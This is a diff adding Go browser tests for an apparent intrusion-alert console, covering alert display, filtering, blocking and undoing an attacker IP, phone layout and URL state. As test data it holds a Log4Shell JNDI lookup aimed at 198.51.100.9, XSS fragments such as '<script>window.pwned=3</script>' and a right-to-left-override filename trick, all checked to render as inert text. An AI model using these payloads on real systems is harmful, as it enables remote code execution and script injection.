@@ -1,0 +1,393 @@
+package web_test
+
+import (
+	"context"
+	"fmt"
+	"net/netip"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/chromedp/cdproto/cdp"
+	"github.com/chromedp/cdproto/emulation"
+	"github.com/chromedp/cdproto/input"
+	cdplog "github.com/chromedp/cdproto/log"
+	"github.com/chromedp/cdproto/page"
+	"github.com/chromedp/cdproto/runtime"
+	"github.com/chromedp/chromedp"
+	"github.com/chromedp/chromedp/kb"
+)
+
+const artifacts = "../test/artifacts" // git-ignored; CI keeps it
+
+// browser is a tab of a fresh Chromium, and what went wrong in it.
+type browser struct {
+	ctx  context.Context
+	mu   sync.Mutex
+	errs []string
+}
+
+func startBrowser(t *testing.T) *browser {
+	t.Helper()
+	path, err := exec.LookPath("chromium")
+	if err != nil {
+		t.Skip("chromium is not installed: apt-get install chromium")
+	}
+	opts := append(chromedp.DefaultExecAllocatorOptions[:],
+		chromedp.ExecPath(path), chromedp.UserDataDir(t.TempDir()), chromedp.WindowSize(1440, 900),
+		chromedp.Flag("disable-gpu", true), chromedp.Flag("disable-quic", true), chromedp.Flag("no-first-run", true),
+		chromedp.Flag("disable-background-networking", true), chromedp.Flag("disable-component-update", true),
+		chromedp.Flag("disable-sync", true), chromedp.Flag("no-sandbox", os.Geteuid() == 0))
+	alloc, stop := chromedp.NewExecAllocator(context.Background(), opts...)
+	ctx, cancel := chromedp.NewContext(alloc)
+	b := &browser{ctx: ctx}
+	t.Cleanup(func() {
+		chromedp.Cancel(ctx)
+		cancel()
+		stop()
+	})
+	if err := chromedp.Listen(ctx, b.listen); err != nil {
+		t.Fatal(err)
+	}
+	b.do(t, "listen to the log", chromedp.Func(func(ctx context.Context, tab *chromedp.Target) error {
+		_, err := cdp.Call(ctx, tab, cdplog.Enable, cdp.Empty{})
+		return err
+	}))
+	return b
+}
+
+// listen takes note of exceptions, errors and violations of the page's policy.
+func (b *browser) listen(ev any) {
+	var text string
+	switch e := ev.(type) {
+	case *runtime.EventExceptionThrown:
+		text = e.ExceptionDetails.Text
+		if x := e.ExceptionDetails.Exception; x != nil {
+			text += " " + x.Description
+		}
+	case *cdplog.EventEntryAdded:
+		if e.Entry.Level == cdplog.EntryLevelError {
+			text = e.Entry.Text + " " + e.Entry.URL
+		}
+	case *page.EventJavascriptDialogOpening:
+		text = "the page opened a dialog: " + e.Message
+	}
+	if text != "" {
+		b.mu.Lock()
+		b.errs = append(b.errs, text)
+		b.mu.Unlock()
+	}
+}
+
+type action = chromedp.Action[chromedp.Void]
+
+// patience is how long anything on the page may take on a busy machine.
+const patience = 12 * time.Second
+
+func (b *browser) do(t *testing.T, what string, actions ...action) {
+	t.Helper()
+	ctx, cancel := context.WithTimeout(b.ctx, patience)
+	defer cancel()
+	if err := chromedp.Do(ctx, actions...); err != nil {
+		b.fail(t, what, err)
+	}
+}
+
+func (b *browser) fail(t *testing.T, what string, err any) {
+	t.Helper()
+	b.shoot(t, "failed-"+t.Name())
+	b.mu.Lock()
+	defer b.mu.Unlock()
+	t.Fatalf("%s: %v\nbrowser: %s", what, err, strings.Join(b.errs, "\n"))
+}
+
+// wait waits until the expression is true in the page. (chromedp.Poll would need eval, which the page's policy forbids.)
+func (b *browser) wait(t *testing.T, what, expression string) {
+	t.Helper()
+	ctx, cancel := context.WithTimeout(b.ctx, patience)
+	defer cancel()
+	for {
+		done, err := chromedp.Run(ctx, chromedp.Evaluate[bool]("!!("+expression+")"))
+		switch {
+		case done:
+			return
+		case ctx.Err() != nil:
+			b.fail(t, what, "not in time: "+expression)
+		case err != nil && !strings.Contains(err.Error(), "Cannot find context"): // between two pages
+			b.fail(t, what, err)
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+}
+
+func (b *browser) eval(t *testing.T, expression string) string {
+	t.Helper()
+	text, err := chromedp.Run(b.ctx, chromedp.Evaluate[string]("String("+expression+")"))
+	if err != nil {
+		b.fail(t, expression, err)
+	}
+	return text
+}
+
+// key presses a key as a keyboard does for a page that handles it: a char event that followed regardless would land in
+// whatever field the key gave the focus to.
+func (b *browser) key(t *testing.T, key string) {
+	t.Helper()
+	for _, r := range key {
+		for _, ev := range kb.Encode(r) {
+			if ev.Type == input.DispatchKeyEventTypeChar {
+				continue
+			}
+			b.do(t, "key "+key, chromedp.Func(func(ctx context.Context, tab *chromedp.Target) error {
+				_, err := cdp.Call(ctx, tab, input.DispatchKeyEvent, *ev)
+				return err
+			}))
+		}
+	}
+}
+
+// shoot keeps a picture of what is seen.
+func (b *browser) shoot(t *testing.T, name string) {
+	t.Helper()
+	ctx, cancel := context.WithTimeout(b.ctx, patience)
+	defer cancel()
+	png, err := chromedp.Run(ctx, chromedp.CaptureScreenshot())
+	if err != nil {
+		t.Errorf("screenshot %s: %v", name, err)
+		return
+	}
+	if err := os.MkdirAll(artifacts, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(artifacts, "console-"+name+".png"), png, 0o644); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// phone makes the tab one of 390 × 844 points.
+func (b *browser) phone(t *testing.T) {
+	t.Helper()
+	b.do(t, "resize", chromedp.EmulateViewport(390, 844, chromedp.EmulateMobile, chromedp.EmulateTouch, chromedp.EmulatePortrait,
+		func(m *emulation.SetDeviceMetricsOverrideParams, _ *emulation.SetTouchEmulationEnabledParams) {
+			m.DeviceScaleFactor = 2
+		}))
+}
+
+// scheme is what the system prefers: dark or light.
+func (b *browser) scheme(t *testing.T, scheme string) {
+	t.Helper()
+	b.do(t, "colour scheme", chromedp.Func(func(ctx context.Context, tab *chromedp.Target) error {
+		_, err := cdp.Call(ctx, tab, emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{
+			Features: []*emulation.MediaFeature{{Name: "prefers-color-scheme", Value: scheme}},
+		})
+		return err
+	}), chromedp.Sleep(250*time.Millisecond))
+}
+
+// Rows of the list whose signature says so.
+func rows(text string) string {
+	return fmt.Sprintf(`[...document.querySelectorAll("#alerts .row")].filter((r) => r.querySelector(".sig").textContent.includes(%q))`, text)
+}
+
+// The story of an analyst: sees an attack, looks closer, previews, blocks, watches the drops, undoes it.
+func TestAnalystSeesBlocksAndUndoes(t *testing.T) {
+	b := startBrowser(t)
+	w := startWorld(t)
+	w.past(1500)
+	ctx, cancel := context.WithCancel(t.Context())
+	defer cancel()
+	b.scheme(t, "light")
+	b.do(t, "open", chromedp.Navigate(w.url))
+	b.wait(t, "live", `document.querySelector(".state.live")`)
+	b.wait(t, "history", `document.querySelectorAll("#alerts .row").length > 10`)
+	b.wait(t, "sensors", `document.querySelectorAll("[data-sensor]").length === 3`)
+
+	log4j := attacks[5]
+	attacker := netip.MustParseAddr("203.0.113.77")
+	before := time.Now()
+	w.sensors[0].raise(log4j, attacker, before, false)
+	b.wait(t, "the alert shows", rows("log4j")+`.some((r) => r.textContent.includes("203.0.113.77"))`)
+	t.Logf("alert seen in the browser %s after it was raised", time.Since(before).Round(time.Millisecond))
+	if d := time.Since(before); d > 2*time.Second {
+		t.Errorf("alert took %s to show", d)
+	}
+
+	go w.live(ctx, 12)
+	time.Sleep(4 * time.Second)
+	b.shoot(t, "alerts-light")
+
+	// Filter, by key.
+	b.key(t, "/")
+	b.do(t, "type a filter", chromedp.KeyEvent("src:203.0.113.77"+kb.Enter))
+	b.wait(t, "filtered", `document.querySelectorAll("#alerts .row").length > 0 && [...document.querySelectorAll("#alerts .row .src")].every((s) => s.textContent.startsWith("203.0.113.77"))`)
+	if url := b.eval(t, "location.search"); !strings.Contains(url, "q=src") {
+		t.Errorf("the URL %s does not hold the filter", url)
+	}
+
+	// Open it, by key; look at the payload.
+	b.key(t, "j")
+	b.key(t, kb.Enter)
+	b.wait(t, "detail", `document.querySelector(".detail h2")?.textContent.includes("log4j")`)
+	b.wait(t, "payload", `document.querySelector("[data-testid=payload]")?.textContent.includes("\${jndi:ldap://198.51.100.9:1389/a}")`)
+	b.shoot(t, "detail-light")
+
+	// Block its source, after seeing what that would hit.
+	b.key(t, "b")
+	b.wait(t, "dialog", `document.querySelector("dialog[open] #f-src")?.value === "203.0.113.77"`)
+	b.wait(t, "preview", `/^1alert /.test(document.querySelector("[data-testid=preview] dl")?.textContent) && document.querySelector("[data-testid=preview]").textContent.includes("3sensors")`)
+	b.shoot(t, "block-light")
+	b.do(t, "block", chromedp.Click("dialog[open] footer .danger"))
+	b.wait(t, "verdict listed", `[...document.querySelectorAll("[data-verdict] .match")].some((m) => m.textContent === "203.0.113.77")`)
+	b.wait(t, "on all sensors", `document.querySelector("[data-verdict]").textContent.includes("on 3 of 3 sensors")`)
+	b.do(t, "close the alert", chromedp.KeyEvent(kb.Escape))
+	for _, s := range w.sensors {
+		if s.traffic(attacker, 1200) {
+			t.Errorf("%s let the blocked source through", s.id)
+		}
+	}
+	b.wait(t, "hits", `document.querySelector("[data-verdict] .hits").textContent.includes("3,600 packets")`)
+	b.do(t, "clear the filter", chromedp.Click(`[aria-label="Clear the filter"]`))
+	b.wait(t, "all alerts again", `document.querySelectorAll("#alerts .row").length > 10`)
+	time.Sleep(3500 * time.Millisecond)
+	b.shoot(t, "verdict-light")
+	b.scheme(t, "dark")
+	b.shoot(t, "verdict-dark")
+
+	// Undo, and undo the undoing.
+	b.do(t, "remove", chromedp.Click(`[data-verdict] button[aria-label^="Remove the verdict on 203.0.113.77"]`))
+	b.wait(t, "removed", `document.querySelector(".faded [data-verdict]")?.textContent.includes("removed")`)
+	passes := func() bool { return w.sensors[1].traffic(attacker, 1) }
+	waitFor(t, "traffic passes again", passes)
+	b.do(t, "undo", chromedp.Click(`//div[contains(@class,"toast")]/button[text()="Undo"]`))
+	b.wait(t, "blocked again", `document.querySelector(".cards:not(.faded) [data-verdict] .match")?.textContent === "203.0.113.77"`)
+	waitFor(t, "traffic is dropped again", func() bool { return !passes() })
+
+	b.noErrors(t)
+}
+
+func waitFor(t *testing.T, what string, done func() bool) {
+	t.Helper()
+	for end := time.Now().Add(5 * time.Second); time.Now().Before(end); time.Sleep(20 * time.Millisecond) {
+		if done() {
+			return
+		}
+	}
+	t.Errorf("not in time: %s", what)
+}
+
+func (b *browser) noErrors(t *testing.T) {
+	t.Helper()
+	b.mu.Lock()
+	defer b.mu.Unlock()
+	for _, e := range b.errs {
+		t.Errorf("browser: %s", e)
+	}
+}
+
+func TestPolicyRefusesInTheDialog(t *testing.T) {
+	b := startBrowser(t)
+	w := startWorld(t)
+	b.scheme(t, "dark")
+	b.do(t, "open", chromedp.Navigate(w.url))
+	b.wait(t, "empty list teaches", `document.querySelector("#alerts .empty")?.textContent.includes("No alerts yet")`)
+	b.wait(t, "sensors", `document.querySelectorAll("[data-sensor]").length === 3`)
+	b.shoot(t, "empty-dark")
+	b.key(t, "n")
+	b.wait(t, "dialog", `document.querySelector("dialog[open] #f-src") === document.activeElement`)
+	b.do(t, "type", chromedp.KeyEvent("169.254.169.254"))
+	b.wait(t, "refusal", `document.querySelector("[data-testid=preview] .problem")?.textContent.includes("never blocked") && document.querySelector("dialog footer .danger").disabled`)
+	b.shoot(t, "refused-dark")
+	b.eval(t, `document.querySelector("#f-src").select()`)
+	b.do(t, "another", chromedp.KeyEvent("10.0.0.1/8"))
+	b.wait(t, "field error", `document.querySelector(".field.bad")?.textContent.includes("10.0.0.0/8 is the network")`)
+	b.key(t, kb.Escape)
+	b.wait(t, "closed", `!document.querySelector("dialog[open]")`)
+	b.key(t, "?")
+	b.wait(t, "keys", `document.querySelector("dialog.keys[open]")`)
+	b.shoot(t, "keys-dark")
+	// A refusal that only the server finds is a 4xx, which Chromium logs as an error: that is expected here.
+}
+
+// Whatever packets and rules contain is shown as text.
+func TestHostileTextIsInert(t *testing.T) {
+	b := startBrowser(t)
+	w := startWorld(t)
+	b.do(t, "open", chromedp.Navigate(w.url))
+	b.wait(t, "live", `document.querySelector(".state.live")`)
+	w.sensors[0].raise(hostile, netip.MustParseAddr("203.0.113.66"), time.Now(), false)
+	b.wait(t, "row", rows("<img src=x onerror=")+`.length === 1`)
+	b.key(t, "j")
+	b.key(t, kb.Enter)
+	b.wait(t, "payload", `document.querySelector("[data-testid=payload]")?.textContent.includes("<script>window.pwned=3</script>")`)
+	b.do(t, "hex", chromedp.Click(`//button[text()="Hex"]`))
+	b.wait(t, "hex dump", `document.querySelector(".payload.hex")?.textContent.startsWith("0000  47 45 54 20")`)
+	time.Sleep(300 * time.Millisecond)
+	for expression, want := range map[string]string{
+		`window.pwned`: "undefined",
+		`document.querySelectorAll("img, script:not([src='/app.js']), [onerror], [onload], b > b").length`: "0",
+		`/[\u202a-\u202e\u0000]/.test(document.body.textContent)`:                                          "false",
+		`document.querySelector(".detail h2").textContent.includes("⟨202E⟩gnp.exe")`:                       "true",
+	} {
+		if got := b.eval(t, expression); got != want {
+			t.Errorf("%s is %s, want %s", expression, got, want)
+		}
+	}
+	b.shoot(t, "hostile")
+	b.noErrors(t)
+}
+
+func TestPhone(t *testing.T) {
+	b := startBrowser(t)
+	w := startWorld(t)
+	w.past(400)
+	b.phone(t)
+	for _, theme := range []string{"light", "dark"} {
+		b.scheme(t, theme)
+		b.do(t, "open", chromedp.Navigate(w.url))
+		b.wait(t, "history", `document.querySelectorAll("#alerts .row").length > 5`)
+		b.wait(t, "timeline", `document.querySelector(".plot canvas")`)
+		time.Sleep(600 * time.Millisecond)
+		b.shoot(t, "phone-alerts-"+theme)
+		if over := b.eval(t, `document.documentElement.scrollWidth > innerWidth`); over != "false" {
+			t.Errorf("%s: the page is wider than the phone", theme)
+		}
+	}
+	b.do(t, "open an alert", chromedp.Click("#alerts .row:nth-child(3)"))
+	b.wait(t, "detail", `document.querySelector(".detail h2")`)
+	time.Sleep(300 * time.Millisecond)
+	b.shoot(t, "phone-detail")
+	b.do(t, "block", chromedp.Click(".detail .danger"))
+	b.wait(t, "preview", `document.querySelector("[data-testid=preview] dl")`)
+	b.shoot(t, "phone-block")
+	b.do(t, "block", chromedp.Click("dialog[open] footer .danger"))
+	b.wait(t, "done", `!document.querySelector("dialog[open]")`)
+	b.do(t, "back", chromedp.Click(".detail .close"), chromedp.Click(`.tabbar .tab:nth-child(2)`))
+	b.wait(t, "verdict", `document.querySelector("[data-verdict]")`)
+	time.Sleep(300 * time.Millisecond)
+	b.shoot(t, "phone-verdicts")
+	b.do(t, "sensors", chromedp.Click(`.tabbar .tab:nth-child(3)`))
+	b.wait(t, "sensors", `document.querySelectorAll("[data-sensor]").length === 3`)
+	b.shoot(t, "phone-sensors")
+	b.noErrors(t)
+}
+
+// The state is in the URL: a link brings back what was seen, and the back button goes back.
+func TestURLHoldsTheState(t *testing.T) {
+	b := startBrowser(t)
+	w := startWorld(t)
+	w.past(300)
+	b.do(t, "open", chromedp.Navigate(w.url+"?q=severity%3A1&span=6h&paused=1")) // while alerts still arrive
+	b.wait(t, "restored", `document.querySelector(".state.paused") && document.querySelector(".search input").value === "severity:1" && document.querySelector('.segments [aria-pressed=true]').textContent === "6 h"`)
+	b.wait(t, "filtered", `document.querySelectorAll("#alerts .row").length > 0 && [...document.querySelectorAll("#alerts .row .sev")].every((s) => s.textContent === "1")`)
+	b.do(t, "another view", chromedp.Click(`.bar .tab:nth-child(3)`))
+	b.wait(t, "sensors", `location.search.includes("view=sensors") && document.querySelector(".sensors")`)
+	b.do(t, "back", chromedp.NavigateBack())
+	b.wait(t, "alerts again", `document.querySelector("#alerts") && !location.search.includes("view=")`)
+	b.do(t, "nonsense", chromedp.Navigate(w.url+"?q=colour%3Ared"))
+	b.wait(t, "explained", `document.querySelector(".problem")?.textContent.includes("There is no filter “colour:”")`)
+	b.noErrors(t)
+}
